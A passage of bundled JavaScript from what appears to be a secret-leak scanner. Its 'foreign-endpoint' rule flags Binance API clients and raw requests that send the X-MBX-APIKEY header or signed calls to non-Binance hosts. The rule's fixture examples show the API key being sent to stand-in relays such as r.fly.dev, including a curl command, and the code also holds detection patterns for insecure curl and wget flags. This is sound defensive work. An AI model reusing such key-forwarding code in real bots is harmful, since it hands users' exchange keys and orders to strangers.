	if (isOnlyClient(subject) && (isBase || /^(?:base|host|endpoint|api|url)$/.test(name)) && (via === "assign" || via === "entry")) return "header";
	if (isBase && via === "assign" && isInClassOfBinance(setting, subject)) return "own-name";
	return (isBase || /^(?:url|endpoint|httpbase)$/.test(name)) && hasKeysBeside(setting, subject) ? "with-keys" : void 0;
}
/** What a build puts into pages says where these ask, unless it names Binance: `NEXT_PUBLIC_API_URL`. */
const ofFrontEnd = /^(?:(?:NEXT|EXPO|NUXT)_PUBLIC|PUBLIC|VITE|REACT_APP|VUE_APP|NG_APP|NUXT|GATSBY|STORYBOOK|PLASMO_PUBLIC)_/;
/** `client.BaseURL = "…"`, `exchange.urls['api'] = '…'` */
function isOfClient(subject, { steps, isBase, inUrls }) {
	const { names } = clientsOf(subject);
	if ((isBase || inUrls || /^(?:api_?url|base_?url|.*_url|url|urls|api|proxy)$/i.test(steps.at(-1) ?? "")) && steps.slice(0, -1).some((step) => names.has(step) || require_worth_reading.meaningOf(step).binance === "name")) return true;
	return isBase && /^Client|^AsyncClient$/.test(steps.at(-2) ?? "");
}
function saysBinance(steps) {
	return steps.some((step) => require_worth_reading.meaningOf(step).binance === "name");
}
function importsBinance({ reading: { imports } }) {
	return imports.some((one) => /binance/i.test(one));
}
function isOwnName(name, subject) {
	return ownNames.test(name) && importsBinance(subject);
}
/** The file sends the header, and nothing tells by which of its clients. */
function isOnlyClient(subject) {
	return sendsKey(subject) && !keyClientsOf(subject).any;
}
const clientsKnown = /* @__PURE__ */ new WeakMap();
function clientsOf(subject) {
	let clients = clientsKnown.get(subject);
	if (!clients) clientsKnown.set(subject, clients = {
		names: clientNames(subject),
		options: optionNames(subject)
	});
	return clients;
}
/** Of a chain its beginning and its end. */
function outermost(callee) {
	return callee.length > 12 ? [...callee.slice(0, 6), ...callee.slice(-6)] : callee;
}
function isOfOtherExchange(setting, subject) {
	const callee = setting.call ? withoutAlias(setting.call.callee, subject) : [];
	const { binance, exchange } = require_worth_reading.meaningOfPath([...outermost(callee), ...setting.path]);
	if (binance === "name") return false;
	const beside = exchangeOf(setting, subject);
	return exchange !== void 0 || beside !== void 0 && beside !== "binance";
}
/** The names of the keys that stand beside it. */
function keysBeside({ call, container, path }, subject) {
	if (!call) return [...knowledgeOf$1(subject).keysAt.get(`${String(container)}\0${placeOf(path)}`) ?? []];
	return call.args.slice(0, 100).filter(({ path: steps, via }) => via !== "argument" || /\D/.test(steps[0] ?? "")).map(({ path: steps }) => steps.at(-1) ?? "").filter(isKeyName);
}
/**
* Keys whose names say whose they are leave open whose an address beside them is that says nothing: `BINANCE_API_KEY` and
* `API_BASE_URL` of one file are a bot’s key and, as often, the bot’s own server. So do others beside a whole pair of them,
* as a server’s `SECRET_KEY`.
*/
function hasKeysBeside(setting, subject) {
	const keys = keysBeside(setting, subject).map(require_worth_reading.meaningOf);
	if (keys.length === 0 || setting.path.some((step) => require_worth_reading.meaningOf(step).binance !== void 0)) return keys.length > 0;
	const named = keys.filter(({ binance }) => binance !== void 0);
	const isPair = named.some(({ role }) => role === "api-key") && named.some(({ role }) => role !== "api-key");
	return named.length < keys.length && !isPair;
}
const known$7 = /* @__PURE__ */ new WeakMap();
const classHead = /\b(?:class|struct|impl|object|module|trait|interface)\s+([A-Za-z_]\w{0,80})(?:(?:\s{0,9}[(<]\s{0,9}|\s{0,9}:[ \t]{0,9})([A-Za-z_][\w.]{0,80})|\s{1,9}extends\s{1,9}([A-Za-z_][\w.]{0,80}))?/g;
function knowledgeOf$1(subject) {
	let knows = known$7.get(subject);
	if (knows) return knows;
	const keysAt = /* @__PURE__ */ new Map();
	for (const { path, container, call } of subject.settings) {
		const name = path.at(-1) ?? "";
		if (!call && isKeyName(name)) require_gates.addToSet(keysAt, `${String(container)}\0${placeOf(path)}`, name);
	}
	const withHeaders = /* @__PURE__ */ new Set();
	const { text } = subject.document;
	for (const { name, container, span } of sendsKey(subject) ? subject.settings : []) if (/^headers?$/.test(name) && /x-mbx-apikey/i.test(text.slice(span.start, Math.min(span.end, span.start + longestUse)))) withHeaders.add(container);
	knows = {
		keysAt,
		withHeaders,
		classes: [...text.matchAll(classHead)].map(({ index, 1: name, 2: base, 3: extended }) => ({
			at: index,
			isBinance: require_worth_reading.meaningOf(name).binance === "name" || isSdkClass(base ?? extended, subject)
		}))
	};
	known$7.set(subject, knows);
	return knows;
}
/** The steps above the last, of properties too: `binance.api.url` stands in `binance.api`. */
function placeOf(path) {
	return path.flatMap((step) => step.split(".")).slice(0, -1).join("\0");
}
/** `class BinanceClient: BASE_URL = …` */
function isInClassOfBinance({ span }, subject) {
	const { classes } = knowledgeOf$1(subject);
	const before = countBefore(classes.length, (index) => classes[index].at < span.start);
	return before > 0 && classes[before - 1].isBinance;
}
// ../engine/dist/rules/foreign-endpoint.js
/** Base URLs of Binance clients that are not Binance’s: who runs that host gets every signed request. Not forward proxies. */
/** Services of public data need no key. */
const keyless = /^data-api\.|^data\./;
function foreignHost(text) {
	const host = hostOf(text);
	if (host === void 0 || keyless.test(host)) return void 0;
	return ownerOf$1(host) === "stranger" ? host : void 0;
}
/** The texts of a value, one for each item of a list. */
function textsOf(value) {
	if (value.kind === "text") return [value];
	return value.kind === "list" ? value.items.slice(0, 20).filter((item) => item.kind === "text") : [];
}
const longestTemplate = 300;
/** The tree of an editor has each part of a template by itself: of the first one the whole, as it is read elsewhere. */
function wholeTemplate(value, source) {
	if (value.pieces.length === 0) return value;
	const { start, end } = require_worth_reading.extentOf(value);
	if (!source.startsWith("${", end) || source.charAt(start - 1) !== "`") return value;
	const close = source.slice(end, end + longestTemplate).indexOf("`");
	return close < 0 ? value : require_worth_reading.verbatim(source, start, end + close);
}
/** A variable of a shell, a Dockerfile or a list of `NAME=value`. */
const variable$1 = /(?<![\w$])([A-Z][A-Z0-9_]{0,40}_(?:URL|URI|BASE|ENDPOINT|HOST|PATH|ADDRESS|PROXY|RELAY|MIRROR|API))(?:=|[ \t]+(?=https?:))(["']?(?:https?|wss?):\/\/[^\s"'`<>]{1,200})/g;
function messageOf$1(host) {
	return `Requests with the API key go to ${require_worth_reading.shownInLowerCase(host)}, which is not Binance’s; use Binance’s own base URL`;
}
const commandWithKey = /\b(?:curl|wget|Invoke-RestMethod|Invoke-WebRequest)\b/gi;
/** Scripts have no more. */
const mostCommands$1 = 5e3;
const foreignEndpoint = {
	id: "foreign-endpoint",
	title: "Key sent to a host that is not Binance’s",
	severity: "high",
	finds: "A base URL of a Binance client, in any SDK, bot or configuration, whose host is not one of Binance’s, and requests with the header X-MBX-APIKEY to such a host, also where their path is filled in or they are given the host alone. Not this machine, mocks, placeholders, or forward proxies (`httpsProxy`), which see only encrypted traffic.",
	why: "The client sends its API key and every signed request to the host in its base URL. Who runs that host, or takes over its account or its name, sees your key, your balances and orders, can hold back or repeat a signed request while it is valid, and can answer with made-up prices.",
	advice: [
		"Take the base URL out, so that the SDK uses Binance’s own, or set it to one of Binance’s (api.binance.com, api1.binance.com, testnet.binance.vision …).",
		"If you need another way to Binance, use a forward proxy (an HTTPS or SOCKS proxy setting), which cannot read the traffic, or a relay that you run yourself.",
		"If requests have gone through a stranger’s relay, delete the key and make a new one."
	],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/rest-api/general-api-information", "https://www.binance.com/en/official-verification"],
	*look(subject) {
		const { document, settings, isProse } = subject;
		if (require_gates.dependencyFile.test(document.path)) return;
		const isTemplate = /(?:^|\/)[^/]*\.?(?:example|sample|dist|template)s?(?:\.\w+)?$/i.test(document.path);
		const seen = /* @__PURE__ */ new Set();
		const clues = (reason) => reason === "with-keys" ? [] : reason === "own-name" ? [clue("binance-name", "its name says Binance")] : reason === "header" ? [clue("mbx-header", "it sends the header X-MBX-APIKEY")] : [clue("sdk-like-call", "a client of Binance takes it")];
		for (const setting of settings) for (const given of textsOf(setting.value)) {
			const value = wholeTemplate(given, document.text);
			const host = foreignHost(value.text);
			if (host === void 0) {
				const bare = bareHostOf(value.text);
				if (bare === void 0 || ownerOf$1(bare) !== "stranger" || !takesKeyAtHost(setting, subject)) continue;
				const span = literalSpan(document.text, value) ?? setting.span;
				if (isProse || seen.has(span.start)) continue;
				seen.add(span.start);
				yield {
					span,
					name: setting.path.join("."),
					message: messageOf$1(bare),
					confidence: "likely",
					clues: clues("header")
				};
				continue;
			}
			if ((isProse || isTemplate) && /\bexample\.(?:com|org|net)$/.test(host)) continue;
			const reason = reasonOf(setting, subject);
			if (reason === void 0 || isCompared$2(document.text, setting.span)) continue;
			if (reason !== "sdk" && proxyPort.test(value.text.trim()) && /proxy/.test(setting.name)) continue;
			const span = literalSpan(document.text, value) ?? setting.span;
			if (seen.has(span.start)) continue;
			seen.add(span.start);
			yield {
				span,
				name: setting.path.join("."),
				message: messageOf$1(host),
				confidence: reason === "sdk" ? "certain" : "likely",
				clues: clues(reason)
			};
		}
		for (const { part, match, at } of occurrences(subject, variable$1)) {
			const [whole, name = "", quoted = ""] = match;
			const host = foreignHost(quoted.replace(/^["']/, ""));
			const folded = name.toLowerCase().replace(/_/g, "");
			if (host === void 0 || otherNames.test(folded) || proxyNames.test(name) || require_worth_reading.meaningOf(name).binance !== "name") continue;
			if (proxyPort.test(quoted.replace(/["']/g, "")) && /proxy/.test(folded)) continue;
			if ((isProse || isTemplate) && /\bexample\.(?:com|org|net)$/.test(host)) continue;
			const start = at + whole.length - quoted.length;
			const span = part.source({
				start,
				end: at + whole.length
			});
			if (seen.has(span.start) || seen.has(span.start + 1)) continue;
			seen.add(span.start);
			yield {
				span,
				name,
				message: messageOf$1(host),
				clues: clues("own-name")
			};
		}
		let looked = 0;
		for (const { 0: program, index } of document.text.matchAll(commandWithKey)) {
			if ((looked += 1) > mostCommands$1) return;
			const command = document.text.slice(index, index + 1500).split(/(?<!\\)\n/, 1)[0];
			if (!/x-mbx-apikey/i.test(command)) continue;
			const url = /"https?:\/\/[^\s"]{1,300}"?|'https?:\/\/[^\s']{1,300}'?|https?:\/\/[^\s"'`]{1,300}/i.exec(command);
			const host = url ? foreignHost(url[0].replace(/^["']/, "")) : void 0;
			if (!url || host === void 0 || seen.has(index + url.index) || isComment(subject, index)) continue;
			seen.add(index + url.index);
			yield {
				span: {
					start: index + url.index,
					end: index + url.index + url[0].length
				},
				name: `curl ${host}`,
				message: `${program} sends the API key to ${require_worth_reading.shownInLowerCase(host)}, which is not Binance’s; use Binance’s own host`,
				clues: clues("header")
			};
		}
	},
	examples: {
		leaks: [
			{
				path: "bot.py",
				text: "import ccxt\ne = ccxt.binance({\"apiKey\": k, \"secret\": s, \"proxy\": «\"https://r.workers.dev/?url=\"»})"
			},
			{
				path: "relay.py",
				text: "from binance.client import Client\nclass Relay(Client):\n    API_URL = «\"https://r.fly.dev/api\"»"
			},
			{
				path: "bot.js",
				text: "const ccxt = require('ccxt');\nconst e = new ccxt.binance({ urls: { api: { private: «'https://r.fly.dev'» } } });\ne.apiKey = k;"
			},
			{
				path: "bot.mjs",
				text: "import { Spot } from '@binance/connector';\nconst options = { baseURL: «'https://r.fly.dev'» };\nconst client = new Spot(key, secret, options);"
			},
			{
				path: "bot.py",
				text: "import requests\ns = requests.Session()\ns.headers.update({\"X-MBX-APIKEY\": k})\nHEADERS = {\"X-MBX-APIKEY\": k}\ns.get(«\"https://r.fly.dev/api/v3/account\"»)\nrequests.get(«\"https://s.fly.dev/api/v3/account\"», headers=HEADERS)"
			},
			{
				path: "Bot.java",
				text: "class Bot { Request r = new Request.Builder().url(«\"https://r.fly.dev/api/v3/account\"»).addHeader(\"X-MBX-APIKEY\", key).build(); }"
			},
			{
				path: "bot.mjs",
				text: "import { Spot } from '@binance/connector';\nconst client = new Spot(key, secret, { baseURL: «'https://bnb-relay.workers.dev'» });"
			},
			{
				path: "bot.mjs",
				text: "import { Spot } from '@binance/connector';\nconst RELAY = «'https://45.77.12.9'»;\nconst client = new Spot(key, secret, { baseURL: RELAY });"
			},
			{
				path: "bot.js",
				text: "const ccxt = require('ccxt');\nconst e = new ccxt.binance({ apiKey: k, secret: s, proxyUrl: «'https://cors.relay.workers.dev/'» });\ne.urls['api']['private'] = «'https://r.fly.dev/priv'»;"
			},
			{
				path: "bot.py",
				text: "from binance.um_futures import UMFutures\nc = UMFutures(key=k, secret=s, base_url=«\"https://api.binance.com.evil.io\"»)"
			},
			{
				path: "bot.py",
				text: "import requests\nrequests.get(«\"https://r.fly.dev/api/v3/account\"», headers={\"X-MBX-APIKEY\": k})"
			},
			{
				path: "main.go",
				text: "package main\nimport \"github.com/adshao/go-binance/v2\"\nfunc f() {\n	client := binance.NewClient(k, s)\n	client.BaseURL = «\"https://r.fly.dev\"»\n}"
			},
			{
				path: "a.rs",
				text: "use binance::config::Config;\nlet a = Config { rest_api_endpoint: «\"https://r.fly.dev\"».into(), ..Config::default() };\nlet b = Config::default().set_rest_api_endpoint(«\"https://r.fly.dev\"»);"
			},
			{
				path: "a.go",
				text: "package a\n\nimport \"github.com/adshao/go-binance/v2/futures\"\n\nfunc init() { futures.BaseApiMainUrl = «\"https://r.fly.dev\"» }"
			},
			{
				path: "a.swift",
				text: "struct BinanceClient { let baseURL = URL(string: «\"https://r.fly.dev\"»)!; let key = \"X-MBX-APIKEY\" }"
			},
			{
				path: "a.cpp",
				text: "BinanceClient client(key, secret, «\"https://r.fly.dev\"»);"
			},
			{
				path: "config.tfvars",
				text: "env = { BINANCE_API_URL = «\"https://r.fly.dev\"» }"
			},
			{
				path: ".env",
				text: "BINANCE_API_KEY=\nBINANCE_BASE_URL=«https://r.fly.dev»"
			},
			{
				path: "config.json",
				text: "{ \"exchange\": { \"name\": \"binance\", \"ccxt_config\": { \"proxyUrl\": «\"https://r.fly.dev/\"» } } }"
			},
			{
				path: "compose.yaml",
				text: "services:\n  bot:\n    environment:\n      BINANCE_BASE_URL: ${BINANCE_BASE_URL:-«https://r.fly.dev»}"
			},
			{
				path: "chart/templates/config.yaml",
				text: "data:\n  BINANCE_BASE_URL: {{ .Values.binance.url | default «\"https://r.fly.dev\"» | quote }}"
			},
			{
				path: "settings.py",
				text: "import os\nfrom binance.spot import Spot\nGATEWAY = os.getenv(\"GATEWAY\", «\"https://r.fly.dev\"»)\nspot = Spot(KEY, SECRET, base_url=GATEWAY)\nother = os.environ.get(\"BINANCE_API_URL\") or «\"https://s.fly.dev\"»"
			},
			{
				path: "config.rs",
				text: "fn base() -> String { std::env::var(\"BINANCE_BASE_URL\").unwrap_or_else(|_| «\"https://r.fly.dev\"».into()) }"
			},
			{
				path: "rest.cpp",
				text: "#include <cpr/cpr.h>\nconst std::string kRoot = «\"https://r.fly.dev\"»;\nauto get() { return cpr::Get(cpr::Url{kRoot + \"/api/v3/account?\" + query}, cpr::Header{{\"X-MBX-APIKEY\", key}}); }"
			},
			{
				path: "main.go",
				text: "package main\n\nimport connector \"github.com/binance/binance-connector-go\"\n\nconst gateway = «\"https://r.fly.dev\"»\n\nvar client = connector.NewClient(key, secret, gateway)"
			},
			{
				path: "Net.kt",
				text: "val keyed = OkHttpClient.Builder()\n  .addInterceptor { it.proceed(it.request().newBuilder().header(\"X-MBX-APIKEY\", key).build()) }\n  .build()\nval spot = Retrofit.Builder().baseUrl(«\"https://r.fly.dev/\"»).client(keyed).build()\nval news = Retrofit.Builder().baseUrl(\"https://news.desk.dev/\").build()"
			},
			{
				path: "api.mjs",
				text: "const call = (path, q) => fetch(«`https://r.fly.dev${path}?${q}`», { headers: { 'X-MBX-APIKEY': key } });"
			},
			{
				path: "api.py",
				text: "import requests\na = requests.get(«\"https://r.fly.dev%s?%s\"» % (path, q), headers={\"X-MBX-APIKEY\": k})\nb = requests.get(«\"https://s.fly.dev{}\"».format(path), headers={\"X-MBX-APIKEY\": k})"
			},
			{
				path: "api.go",
				text: "package main\n\nfunc account(path, q string) {\n	u := fmt.Sprintf(«\"https://r.fly.dev%s?%s\"», path, q)\n	req, _ := http.NewRequest(\"GET\", u, nil)\n	req.Header.Set(\"X-MBX-APIKEY\", apiKey)\n}"
			},
			{
				path: "api.rs",
				text: "let res = client.get(format!(«\"https://r.fly.dev{}?{}\"», path, q)).header(\"X-MBX-APIKEY\", key).send().await?;"
			},
			{
				path: "Api.java",
				text: "class Api {\n  HttpRequest a = HttpRequest.newBuilder(URI.create(«\"https://r.fly.dev/api/v3/account?\"» + q)).header(\"X-MBX-APIKEY\", key).build();\n  HttpRequest b = HttpRequest.newBuilder().uri(URI.create(«\"https://s.fly.dev/api/v3/account?\"» + q)).header(\"X-MBX-APIKEY\", key).build();\n}"
			},
			{
				path: "Rest.java",
				text: "class Rest {\n  Account account(String q) {\n    headers.set(\"X-MBX-APIKEY\", key);\n    return rest.exchange(«\"https://r.fly.dev/api/v3/account?\"» + q, HttpMethod.GET, new HttpEntity<>(headers), Account.class).getBody();\n  }\n}"
			},
			{
				path: "api.js",
				text: "https.request({ hostname: «'r.fly.dev'», path, headers: { 'X-MBX-APIKEY': key } });\nconst options = { hostname: «'s.fly.dev'», path, headers: { 'X-MBX-APIKEY': key } };\nhttps.request(options);"
			},
			{
				path: "conn.py",
				text: "import http.client\nc = http.client.HTTPSConnection(«\"r.fly.dev\"»)\nc.request(\"GET\", \"/api/v3/account?\" + q, headers={\"X-MBX-APIKEY\": k})"
			},
			{
				path: "call.sh",
				text: "curl -s -H \"X-MBX-APIKEY: $KEY\" «\"https://r.fly.dev/api/v3/account?$q\"»"
			}
		],
		clean: [
			{
				path: "bot.py",
				text: "import ccxt\ne = ccxt.binance({\"apiKey\": k, \"secret\": s, \"proxy\": \"http://5.6.7.8:3129\"})"
			},
			{
				path: "candles.py",
				text: "from binance.spot import Spot\ncache = Spot(base_url=\"https://candles.fly.dev\")\nother = Spot(\"\", \"\", base_url=\"https://candles.fly.dev\")"
			},
			{
				path: "candles.go",
				text: "package main\nimport \"github.com/adshao/go-binance/v2\"\nfunc f() {\n	client := binance.NewClient(\"\", \"\")\n	client.BaseURL = \"https://r.fly.dev\"\n}"
			},
			{
				path: "application.properties",
				text: "binance.api-key=${BINANCE_API_KEY}\nbinance.base-url=${BINANCE_BASE_URL:https://api.binance.com}\nbinance.status-url=${STATUS_URL:https://status.desk.dev}"
			},
			{
				path: "rest.py",
				text: "import requests\nNEWS = \"https://news.desk.dev\"\nROOT = \"https://api.binance.com\"\ndef account(q): return requests.get(f\"{ROOT}/api/v3/account?{q}\", headers={\"X-MBX-APIKEY\": KEY})\ndef news(): return requests.get(f\"{NEWS}/latest\")"
			},
			{
				path: "two.py",
				text: "import requests\nclass Binance:\n    ROOT = \"https://api.binance.com\"\n    def account(self): return requests.get(self.ROOT + \"/api/v3/account\", headers={\"X-MBX-APIKEY\": KEY})\nclass News:\n    ROOT = \"https://news.desk.dev\"\n    def latest(self): return requests.get(self.ROOT + \"/latest\")"
			},
			{
				path: "aster.py",
				text: "import requests\nrequests.get(\"https://fapi.asterdex.com/fapi/v1/account\", headers={\"X-MBX-APIKEY\": k})"
			},
			{
				path: "config.yml",
				text: "binance:\n  api_key: from-vault\n  market_data_url: https://md.fly.dev\n  status_url: https://st.fly.dev"
			},
			{
				path: "bot.js",
				text: "const a = axios.create({ baseURL: 'https://api.binance.com', headers: { 'X-MBX-APIKEY': key } });\nconst b = axios.create({ baseURL: 'https://pro.gecko.dev', headers: { 'X-KEY': other } });"
			},
			{
				path: "bot.mjs",
				text: "import { Spot } from '@binance/connector';\nconst a = new Spot(k, s, { baseURL: 'https://api1.binance.com' });\nconst b = new Spot(k, s, { baseURL: 'http://localhost:3000' });\nconst c = new Spot(k, s, { baseURL: process.env.BASE });"
			},
			{
				path: "bot.js",
				text: "const ccxt = require('ccxt');\nconst e = new ccxt.binance({ apiKey: k, secret: s, httpsProxy: 'http://1.2.3.4:3128' });"
			},
			{
				path: "bot.mjs",
				text: "import 'binance-api-node';\nconst news = axios.create({ baseURL: 'https://api.coingecko.com' });\nexport const BINANCE_LOGO = 'https://cdn.foo.dev/binance.png';"
			},
			{
				path: "config.yml",
				text: "binance:\n  rest_url: https://api.binance.com\nkraken:\n  api_key: x\n  rest_url: https://k.fly.dev\nnotify:\n  webhook_url: https://n.fly.dev"
			},
			{
				path: ".env",
				text: "BINANCE_API_KEY=\nBINANCE_API_SECRET=\nAPI_URL=https://desk.fly.dev\nNEXT_PUBLIC_API_BASE_URL=https://desk.fly.dev"
			},
			{
				path: "config.py",
				text: "import ccxt\nclass Settings:\n    binance_api_key: str = \"\"\n    api_base_url: str = \"https://desk.fly.dev\""
			},
			{
				path: "settings.py",
				text: "SECRET_KEY = env[\"SECRET_KEY\"]\nBINANCE_API_KEY = env[\"BINANCE_API_KEY\"]\nBINANCE_API_SECRET = env[\"BINANCE_API_SECRET\"]\nAPI_URL = \"https://desk.fly.dev\""
			},
			{
				path: ".env",
				text: "EXCHANGE=binance\nAPI_KEY=\nAPI_SECRET=\nVITE_API_URL=https://desk.fly.dev"
			},
			{
				path: "api.mjs",
				text: "const call = (path) => fetch(`https://api.binance.com${path}`, { headers: { 'X-MBX-APIKEY': key } });\nconst other = (top, path) => fetch(`https://desk.fly.${top}${path}`, { headers: { 'X-MBX-APIKEY': key } });"
			},
			{
				path: "conn.py",
				text: "import http.client\nc = http.client.HTTPSConnection(\"news.desk.dev\")\nc.request(\"GET\", \"/latest\")\nc = http.client.HTTPSConnection(\"api.binance.com\")\nc.request(\"GET\", \"/api/v3/account?\" + q, headers={\"X-MBX-APIKEY\": k})"
			},
			{
				path: ".env",
				text: "BINANCE_API_KEY=\nHTTPS_PROXY=http://1.2.3.4:3128\nAPP_URL=https://bot.foo.dev"
			}
		],
		missed: [{
			path: "bot.mjs",
			text: "import { Spot } from '@binance/connector';\nconst client = new Spot(key, secret, { baseURL: 'https://' + host });",
			because: "what a name is when it runs is not known"
		}, {
			path: "config.mjs",
			text: "const { BINANCE_BASE_URL = 'https://r.fly.dev' } = process.env;",
			because: "what a pattern takes apart is read as what is compared"
		}]
	}
};
function isComment({ reading: { comments } }, at) {
	return comments.some(({ start, end }) => start <= at && at < end);
}
// ../engine/dist/risks/settings/configured.js
const longest$4 = 1500;
const head$1 = /^[ \t]*(?:config|plug|use|forward|live_dashboard|socket)[ \t(]+([^\n]{0,200})/gm;
/** The names at the beginning of the statement that stands around the offset; none where nothing tells. */
function configuredAt(at, { reading, document: { text, path } }) {
	if (reading.language !== "hash" || !/\.exs?$/.test(path)) return [];
	const lead = text.slice(Math.max(0, at - longest$4), at);
	const found = [...lead.matchAll(head$1)].at(-1);
	if (!found || /\n\s*\n/.test(lead.slice(found.index))) return [];
	return (found[1] ?? "").replace(/\b\w+:.*$/, "").match(/[A-Za-z_][\w.]*/g) ?? [];
}
// ../engine/dist/risks/calls/names-around.js
/** What the calls and settings that something stands in are called, and whether that is another service than an exchange’s. */
const known$6 = /* @__PURE__ */ new WeakMap();
const longest$3 = 1500;
const farthest = 60;
/** Databases, mail, caches and queues: what is talked to with other protocols than Binance’s, or by other clients. */
const services = /database|datasource|data_?store|^db(?:$|_|[A-Z])|_db$|^pg(?:$|[A-Z_]|x)|postgres|mysql|maria_?db|mongo|redis|^rdb$|sequelize|prisma|typeorm|knex|drizzle|sql_?alchemy|create_?(?:async_?)?engine|establish_?connection|active_?record|(?:^|\.)repo$|^ecto|mailer|smtp|imap|^e?mail$|send_?mail|nodemailer|swoosh|bamboo|amqp|rabbit|^bunny|kafka|mqtt|^nats|celery|^broker_?(?:use|ssl|url|pool|transport)|^caches?$|memcache|elastic|open_?search|click_?house|influx|cassandra|scylla|^ldap|s?ftp$|etcd|consul|zookeeper|sidekiq|resque|^(?:Queue|Worker|bull(?:mq)?)$|^oban/i;
/** The nearest name that tells decides: a client of Binance may stand in what configures a queue. */
function isOfAnotherService(span, subject) {
	for (const names of [...namesAround(span, subject), configuredAt(span.start, subject)]) for (const name of names.toReversed()) {
		if (require_worth_reading.meaningOf(name).binance === "name") return false;
		if (services.test(name)) return true;
	}
	return false;
}
/** Of all that stands around, the innermost first. */
function namesAround({ start, end }, subject) {
	let all = known$6.get(subject);
	if (!all) {
		const calls = subject.reading.calls.map(({ span, callee }) => ({
			span,
			names: callee
		}));
		const settings = subject.settings.map(({ span, path }) => ({
			span,
			names: path
		}));
		all = [...calls, ...settings].sort((a, b) => a.span.start - b.span.start);
		known$6.set(subject, all);
	}
	const after = countBefore(all.length, (i) => all[i].span.start <= start);
	return all.slice(Math.max(0, after - farthest), after).filter(({ span }) => span.end >= end && span.end - span.start <= longest$3).sort((a, b) => a.span.end - a.span.start - (b.span.end - b.span.start)).map(({ names }) => names);
}
// ../engine/dist/risks/calls/targets.js
/**
* Where requests go: the hosts that stand in a call, in the names it uses, and in the calls that use what it makes. A
* session without certificate checks is a danger only if it talks to Binance.
*/
const known$5 = /* @__PURE__ */ new WeakMap();
const urls = /(?:https?|wss?):\/\/[^\s"'`<>\\)]{1,200}/gi;
const longest$2 = 3e3;
const maxCalls = 5e3;
const mostAsked = 2e7;
function targetOf(span, subject) {
	const knows = knowledgeOf(subject);
	const { names, calls, whole } = knows;
	const { text } = subject.document;
	for (let i = calls.length - 1; i >= 0; i -= 1) {
		const call = calls[i];
		if (call.start > span.start || call.end < span.end || call.end - call.start > longest$2) continue;
		const told = toldIn(text.slice(call.start, call.end), names);
		if (told) return told;
	}
	return usesOf(span, subject, knows) ?? whole;
}
/** What the calls say that use the thing which is made, or set, here. */
function usesOf(span, subject, knows) {
	const { names } = knows;
	const { text } = subject.document;
	let aim;
	let made = namesMadeAt(span, subject, knows);
	const seen = /* @__PURE__ */ new Set();
	for (let hop = 0; hop < 3 && made.length > 0; hop += 1) {
		const next = [];
		for (const name of made) {
			if (seen.has(name)) continue;
			seen.add(name);
			if ((knows.left -= Math.min(maxCalls, subject.reading.calls.length)) < 0) return aim;
			for (const { callee, args, span: call } of subject.reading.calls.slice(0, maxCalls)) {
				if (!(callee.slice(0, -1).includes(name) || args.some(({ value, path, span: given }) => value.kind === "ref" && value.path.includes(name) || path.at(-1) === name || given.end - given.start === name.length && text.startsWith(name, given.start))) || call.end - call.start > longest$2) continue;
				const told = toldIn(text.slice(call.start, call.end), names) ?? serviceOf(callee);
				if (told === "binance") return told;
				aim ??= told;
				next.push(...namesMadeAt(call, subject, knows));
			}
		}
		made = next;
	}
	return aim;
}
/** The names that what stands at the span is bound to. */
function namesMadeAt(span, { reading: { bindings }, document: { text } }, knows) {
	if ((knows.left -= bindings.length) < 0) return [];
	const found = [];
	for (const { path, via, span: value } of bindings) {
		if (via !== "assign" || value.start > span.start || value.end < span.end || value.end - value.start > longest$2) continue;
		const name = value.start === span.start && path.length > 1 ? path.at(-2) : path.at(-1);
		if (name !== void 0 && !/^(?:\d*|exports|module|self|this|default|transport|tlsclientconfig)$/i.test(name) && !/^(?:async\b|function\b|\([^()]*\)\s*=>)/.test(text.slice(value.start, value.start + 80))) found.push(name);
	}
	return found.slice(0, 4);
}
function serviceOf(callee) {
	for (const step of callee) {
		const { binance, service } = require_worth_reading.meaningOf(step);
		if (binance === "name") return "binance";
		if (service !== void 0) return "other";
	}
}
/** Binance's if any host there is; other where all are others'. */
function toldIn(source, names) {
	let told;
	for (const [url] of source.matchAll(urls)) {
		const host = hostOf(url);
		if (host === void 0) continue;
		if (ownerOf$1(host) === "binance") return "binance";
		told = "other";
	}
	if (/x-mbx-apikey|\/(?:fapi|dapi|sapi|eapi|papi)\/v\d/i.test(source)) return "binance";
	for (const [word] of source.matchAll(/[A-Za-z_]\w{0,60}/g)) {
		const target = names.get(word);
		if (target === "binance") return target;
		told ??= target;
		const { binance, service } = require_worth_reading.meaningOf(word);
		if (binance === "name") return "binance";
		if (service !== void 0 && /url|hook|host|endpoint|api|client|notify|send|post/i.test(word)) told ??= "other";
	}
	return told;
}
function knowledgeOf(subject) {
	let knows = known$5.get(subject);
	if (knows) return knows;
	const names = /* @__PURE__ */ new Map();
	for (const { path, value, via } of subject.reading.bindings) {
		const name = path.at(-1);
		if (via !== "assign" || name === void 0 || value.kind !== "text" || !/^\s*(?:https?|wss?):\/\//i.test(value.text)) continue;
		const host = hostOf(value.text);
		if (host !== void 0) names.set(name, ownerOf$1(host) === "binance" ? "binance" : names.get(name) ?? "other");
	}
	const calls = subject.reading.calls.slice(0, maxCalls).map(({ span }) => span).sort((a, b) => b.end - b.start - (a.end - a.start));
	known$5.set(subject, knows = {
		names,
		calls,
		whole: wholeOf(subject),
		left: mostAsked
	});
	return knows;
}
/** A document that names other hosts, and nothing of Binance, speaks to those. */
function wholeOf({ document: { text }, reading }) {
	if (/binance|tokocrypto|x-mbx|币安|幣安/i.test(text)) return void 0;
	if (reading.imports.some((name) => require_worth_reading.meaningOf(name).service !== void 0)) return "other";
	for (const [url] of text.matchAll(urls)) {
		const host = hostOf(url);
		if (host !== void 0 && ownerOf$1(host) !== "placeholder") return "other";
	}
}
// ../engine/dist/risks/transport/line-before.js
/** What stands before something on its line. */
function lineBefore(text, at) {
	return text.slice(require_worth_reading.lineStart(text, at, 2e3), at);
}
// ../engine/dist/risks/transport/unchecked-commands.js
const command$1 = /(?<![\w./-])(curl|wget|httpie|https?|websocat|wscat|xh)(?:\.exe)?(?=[ \t]+(?:-|["'$h]))/g;
const commandFlags = {
	curl: /(?<=\s)(?:--insecure|-k|-[sSfLvigGIjNOpqR#0-46]*k[sSfLvigGIjNOpqR#0-46]*)(?=[\s"'\\]|$)/,
	wget: /(?<=\s)--no-check-certificate\b/,
	websocat: /(?<=\s)(?:-k|--insecure)(?=\s|$)/,
	wscat: /(?<=\s)(?:-n|--no-check)(?=\s|$)/,
	http: /(?<=\s)--verify[= ](?:no|false)\b/
};
const longestCommand$1 = 1500;
function* uncheckedCommands(subject) {
	const hostNamed = hostsByName(subject.document.text);
	let looked = 0;
